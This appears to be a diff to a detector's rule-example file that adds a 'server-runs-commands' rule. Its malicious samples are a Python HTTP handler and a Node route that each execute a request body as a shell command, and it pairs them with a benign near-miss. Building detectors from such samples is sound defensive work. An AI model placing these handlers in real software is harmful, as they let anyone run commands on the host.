@@ -102,6 +102,19 @@ export const receivers: readonly RuleExamples[] = [
 /** Ways in which another computer gives orders to this one. */
 export const remoteControl: readonly RuleExamples[] = [
   {
+    rule: "server-runs-commands",
+    malicious: [
+      {
+        "scripts/server.py":
+          "import http.server, subprocess\n\n\nclass Handler(http.server.BaseHTTPRequestHandler):\n    def do_POST(self):\n        subprocess.getoutput(self.rfile.read(100).decode())\n",
+      },
+      { "scripts/server.mjs": "app.post('/run', (req, res) => res.send(execSync(req.body.run)));\n" },
+    ],
+    nearMiss: [
+      { "scripts/server.mjs": "app.post('/notes', (req, res) => res.json(save(req.body.text)));\n" },
+    ],
+  },
+  {
     rule: "remote-commands",
     malicious: [
       {
